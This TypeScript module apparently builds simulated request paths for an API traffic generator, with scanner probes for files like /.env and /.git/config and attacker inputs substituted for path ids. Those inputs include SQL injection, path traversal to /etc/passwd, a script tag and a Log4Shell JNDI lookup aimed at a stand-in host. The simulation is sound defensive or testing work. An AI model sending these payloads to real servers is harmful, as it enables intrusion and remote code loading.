import type { Caller } from './caller';
import type { Random } from './random';
import type { Endpoint } from '../pipeline/stages';

/** What a scanner looks for. */
const PROBED = ['/.env', '/wp-login.php', '/admin', '/actuator/health', '/favicon.ico', '/robots.txt', '/.git/config', '/graphql'];
/** What an attacker sends in the place of an id, or behind a path without one. */
const INJECTED = ['1%20OR%201=1', '1%27--', '..%2F..%2Fetc%2Fpasswd', '%3Cscript%3E', '$%7Bjndi:ldap:%2F%2F192.0.2.66%7D'];
const PRODUCT_IDS = 2_000;

/** The path as it was called, without the stage. */
export function calledPath({ kind }: Caller, { resourcePath }: Endpoint, random: Random): string {
  if (kind === 'scanner') {
    return random.pick(PROBED);
  }
  return resourcePath.replace(/\{[^}]*\}/g, () => kind === 'attacker' ? random.pick(INJECTED) : String(1 + random.below(PRODUCT_IDS)));
}
